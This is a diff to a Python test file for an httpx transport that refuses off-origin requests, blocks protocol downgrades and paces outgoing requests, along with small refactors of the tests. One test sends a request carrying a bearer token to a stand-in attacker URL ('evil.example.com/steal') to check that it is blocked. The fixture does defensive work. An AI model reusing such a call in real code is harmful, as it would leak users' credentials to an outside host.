@@ -36,7 +36,7 @@ class Wire(httpx.BaseTransport):
 
 
 def test_a_request_to_another_origin_is_refused_before_it_reaches_the_wire() -> None:
-    wire, paced = Wire(), []
+    wire, paced = Wire(), list[httpx.Request]()
     with httpx.Client(transport=Gate(wire, home=HOME, pace=paced.append)) as client:
         with pytest.raises(OffOriginError) as caught:
             client.get("https://evil.example.com/steal", headers={"Authorization": "Bearer t"})
@@ -57,7 +57,12 @@ def test_an_allowed_origin_passes_and_a_downgrade_never_does() -> None:
 
 def test_every_request_is_paced_once_before_it_is_sent() -> None:
     order: list[str] = []
-    wire = Wire(lambda request: (order.append(f"sent {request.url.path}"), httpx.Response(200))[1])
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        order.append(f"sent {request.url.path}")
+        return httpx.Response(200)
+
+    wire = Wire(answer)
 
     def pace(request: httpx.Request) -> None:
         order.append(f"paced {request.url.path}")
